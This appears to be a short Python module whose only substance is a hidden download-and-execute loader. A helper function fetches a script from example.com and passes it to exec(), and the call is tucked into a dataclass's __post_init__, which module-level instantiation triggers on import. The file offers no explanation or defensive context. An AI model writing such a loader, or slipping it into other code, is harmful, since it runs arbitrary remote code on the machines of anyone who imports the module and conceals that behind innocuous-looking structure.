import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import dataclasses


@dataclasses.dataclass
class A:
    x: int = 1

    def __post_init__(self):
        _go()


A()
